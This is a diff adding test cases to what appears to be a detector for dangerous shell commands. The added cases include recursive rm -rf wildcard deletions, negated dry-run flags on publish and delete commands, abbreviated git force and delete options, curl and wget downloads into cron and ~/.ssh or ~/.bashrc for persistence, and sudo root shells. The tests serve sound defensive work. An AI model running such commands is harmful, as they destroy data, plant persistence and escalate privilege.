@@ -55,6 +55,16 @@ describe('nobody can silence the question about what cannot be undone', () => {
     'rm -rf ${HOME}/',
     'rm -rf $X/*',
     'rm -rf ${DIR}/',
+    'rm -rf $X/./*',
+    'rm -rf $X//*',
+    'rm -rf $X/**',
+    'rm -rf $X/{*,.*}',
+    'rm -rf $X/[a-z]*',
+    'rm -rf $X/?*',
+    'rm -rf $X/*/',
+    'rm -rf $X/.',
+    'rm -rf ${X:-}/*',
+    'rm -rf ${X%/}/*',
     'rm -rf .',
     'rm -rf ..',
     'rm -rf *',
@@ -382,6 +392,125 @@ describe('help and dry runs that another option takes for its value hide nothing
     'pkill -f .',
   ])('%s', (line) => {
     expect(dangers(line).some(({ safety }) => safety)).toBe(true)
+  })
+})
+
+describe('a dry run that is taken back is none', () => {
+  test.each([
+    'npm publish --dry-run=false',
+    'npm publish --dry-run false',
+    'npm publish --dry-run --no-dry-run',
+    'pnpm publish --dry-run=false',
+    'cargo publish --dry-run=no',
+    'kubectl delete pod x --dry-run=none',
+    'aws s3 rm s3://b/x --recursive --dryrun --no-dryrun',
+    'git clean -n --no-dry-run -fdx',
+    'git rm -r . --dry-run --no-dry-run',
+    'rsync -a -n --no-n --delete a/ ~/',
+    'rsync -n --no-dry-run -a --delete empty/ ~/',
+    'apt-get remove --simulate=no nginx',
+    'apt-get remove -s=false nginx',
+    'pulumi destroy --preview-only=false',
+    'gh repo delete --help=false o/r',
+    'docker system prune --help=false',
+    'goreleaser release --snapshot=false',
+  ])('%s', (line) => {
+    expect(dangers(line)).not.toEqual([])
+  })
+
+  test.each([
+    'npm publish --dry-run true',
+    'npm publish --dry-run=true',
+    'cargo publish --dry-run',
+    'apt-get remove --simulate nginx',
+    'pulumi destroy --preview-only',
+    'goreleaser release --snapshot',
+    'npm run false --dry-run',
+  ])('%s is left alone', (line) => {
+    expect(dangers(line)).toEqual([])
+  })
+})
+
+describe("git's long options may be cut short", () => {
+  test.each([
+    'git clean --forc',
+    'git clean --fo -d',
+    'git push --del origin main',
+    'git push --delet origin x',
+    'git push --mirro',
+    'git branch --del --forc x',
+    'git switch --disc main',
+    'git restore --staged --workt .',
+  ])('%s', (line) => {
+    expect(dangers(line)).not.toEqual([])
+  })
+
+  test('a branch that others share', () => {
+    expect(dangers('git push --delet origin main').some(({ safety }) => safety)).toBe(true)
+  })
+
+  test.each(['git branch --format x', 'git push --for-x', 'git push --dr --force-with-lease'])(
+    '%s is left alone',
+    (line) => {
+      expect(dangers(line)).toEqual([])
+    },
+  )
+})
+
+describe('a folder for temporary files that the environment may not name', () => {
+  test.each(['rm -rf $TMPDIR/*', 'rm -rf ${TMPDIR}/', 'rm -rf $TMP/', 'rm -rf ${TEMP}/.*', 'rm -rf $RUNNER_TEMP/*'])(
+    '%s',
+    (line) => {
+      expect(dangers(line).some(({ safety }) => safety)).toBe(true)
+    },
+  )
+
+  test.each(['rm -rf $TMPDIR', 'rm -rf ${TMPDIR}/x/*', 'rm -rf ${TMPDIR:-/tmp}/*', 'rm -rf $TMP/a*'])(
+    '%s is left alone',
+    (line) => {
+      expect(dangers(line)).toEqual([])
+    },
+  )
+})
+
+describe('where a download is saved', () => {
+  test.each([
+    'wget -P /etc/cron.d https://x/job',
+    'wget -P/etc/cron.d https://x/job',
+    'wget -nc -P ~/.ssh https://x/authorized_keys',
+    'wget --directory-prefix=/etc/cron.d https://x/job',
+    'wget -qO/etc/cron.d/x https://x',
+    'wget -qO ~/.bashrc https://x',
+    'curl --output-dir /etc/cron.d -O https://x/job',
+    'curl -o/etc/cron.d/x https://x',
+    'curl -sLo /etc/cron.d/x https://x',
+    'curl -fsSLo ~/.bashrc https://x',
+  ])('%s', (line) => {
+    expect(dangers(line)).toMatchObject([{ category: 'persistence' }])
+  })
+
+  test.each([
+    'curl -sLo out.json https://x',
+    'curl -fsSL -o /tmp/x https://x',
+    'wget -P downloads https://x/a',
+    'wget -qO- https://x',
+    'curl -so /dev/null https://x',
+    'curl -H a:o/etc/cron.d/x https://x',
+  ])('%s is left alone', (line) => {
+    expect(dangers(line)).toEqual([])
+  })
+})
+
+describe('a shell of another user', () => {
+  test.each(['sudo bash', 'sudo -E zsh', 'doas sh', 'pkexec bash', 'sudo -u root sh', 'sudo /bin/bash'])(
+    '%s',
+    (line) => {
+      expect(dangers(line)).toMatchObject([{ category: 'system', severity: 'medium' }])
+    },
+  )
+
+  test.each(['sudo bash x.sh', 'sudo sh -c ls', 'sudo ls bash', 'sudo bash --version'])('%s is left alone', (line) => {
+    expect(dangers(line)).toEqual([])
   })
 })
 
